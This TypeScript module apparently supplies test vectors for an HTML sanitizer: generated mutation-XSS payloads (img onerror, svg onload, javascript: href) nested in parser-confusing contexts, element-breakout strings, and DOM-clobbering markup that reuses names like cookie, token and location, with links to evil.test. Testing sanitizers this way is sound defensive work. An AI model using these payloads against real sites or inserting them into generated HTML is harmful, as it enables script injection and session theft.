/** Html that is another when it is read a second time, that ends elements around it, or stands for something on the page. */

const PAYLOADS = [
  '<img src=x onerror=hit()>',
  '<img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  '<a title="</style><img src=x onerror=hit()>">',
  '<a id="</noscript></title></textarea></template><img src=x onerror=hit()>">',
  '<!--</style></title></xmp><img src=x onerror=hit()>-->',
  '<p title="`&gt;&lt;svg/onload=hit()&gt;`">',
  '&lt;img src=x onerror=hit()&gt;',
  '<![CDATA[><img src=x onerror=hit()>]]>',
];

const AROUND = [
  'svg',
  'math',
  'svg><style',
  'svg><title',
  'svg><desc',
  'svg></p><style',
  'svg><foreignObject><math',
  'math><mtext><table><mglyph><style',
  'math><mtext><mglyph><svg><mtext><style',
  'math><annotation-xml encoding="text/html"><style',
  'form><math><mtext></form><form><mglyph><style',
  'table><mi><form><math><mtext></form><form><mglyph><style',
  'noscript><p',
  'noembed',
  'noframes',
  'iframe',
  'template',
  'template shadowrootmode=open',
  'textarea',
  'title',
  'xmp',
  'plaintext',
  'listing',
  'select><template><style',
  'select><option',
  'option><select><keygen',
  'table><style',
  'table><caption><svg><p><style',
  'table><colgroup><select><style',
  'a><table><a',
  'p><button><p',
  'frameset><frame',
  'style media=x',
  'script type=x',
  'object><param',
  'ruby><rt><rp><rtc',
  'dd><li><dt><div',
  'b><i><p><a><b><i><table><a',
  'svg><desc><table><style',
  'svg><a><animate attributeName=href values=javascript:hit() /><text',
];

export const MUTATION_VECTORS: readonly string[] = AROUND.flatMap((around) =>
  PAYLOADS.flatMap((payload) => [
    `<${around}>${payload}`,
    `<div><${around}><${around}>${payload}</div>x${payload}`,
  ]),
);

const BLOCKS =
  'div p li dd section article blockquote table h1 ul center form span b a td tr button select option'.split(
    ' ',
  );

export const NESTING_VECTORS: readonly string[] = [
  ...'div section article main p table td tr body html span a b li ul h1 form template svg math style select button'
    .split(' ')
    .flatMap((name) => [
      `</${name}>`.repeat(5) + 'out',
      `<table><tr><td></${name}></${name}>in</td></tr></table></${name}></${name}>out`,
      `<svg></${name}><p>x</${name}></${name}>out`,
      `<${name}><li><div><li></${name}></div></div>out`,
    ]),
  ...BLOCKS.flatMap((outer, i) =>
    BLOCKS.map((inner, k) => {
      const third = BLOCKS[(i * 3 + k * 5) % BLOCKS.length]!;
      return `<${outer}><${inner}>a<${third}>b</${outer}>c</${inner}>d<${outer}>e</${third}><${inner}></div>f</p>g</section>h`;
    }),
  ),
  '<li><div><li>x</li></div></div></div>out',
  '<dd><address><div><dt>x</dd></div></div></address>out',
  '<h1><div><h2>x</h1></div></div>out',
  '<table><tr><table><tr><td></div></div></table></table></table>out',
  '<table><div><tr><td>x</td></tr></div></table></div>out',
  '<table><caption><table></caption></table></caption></div>out',
  '<a><div><a><div><a></div></div></a></a></div>out',
  '<b><div>'.repeat(300) + '</b></div>'.repeat(300) + '</div></section>out',
  '<div>'.repeat(600) + '</div>'.repeat(700) + 'out',
  '<font><p>'.repeat(100) + '</p></font>'.repeat(100) + '</div>out',
  '<body><div></body></body></html></div></section>out',
  '<html><body></html><div>x</div></body></section>out',
  '<!-->x</section>out<!-- -->',
  '<style></section>out',
  '<title></section>out',
  '<textarea></section>out',
  '<plaintext></section>out',
  '<![CDATA[</section>out]]></section>out',
  '<section class="mail-body"></section></section></section>out',
];

export const NAMES: readonly string[] = (
  'body head forms images links cookie domain location documentElement defaultView getElementById querySelector ' +
  'createElement appendChild write hit app config user token host host-input top parent self name opener alert fetch ' +
  'toString constructor __proto__ prototype hasOwnProperty attributes children firstChild parentNode nodeName submit ' +
  'currentScript implementation scripts'
).split(' ');

export const CLOBBER_VECTORS: readonly string[] = NAMES.flatMap((name) => [
  `<a id="${name}" name="${name}" href="http://evil.test/">x</a>`,
  `<a id="${name}">x</a><a id="${name}" name=y href="http://evil.test/">x</a>`,
  `<img name="${name}" id="${name}" src=x>`,
  `<form name="${name}" id="${name}"><input name="${name}"><input name=attributes></form>`,
  `<p id="${name}" class="${name}">x</p><map name="${name}"></map>`,
  `<iframe name="${name}" srcdoc="x"></iframe><object name="${name}" id="${name}"></object><embed name="${name}">`,
]);
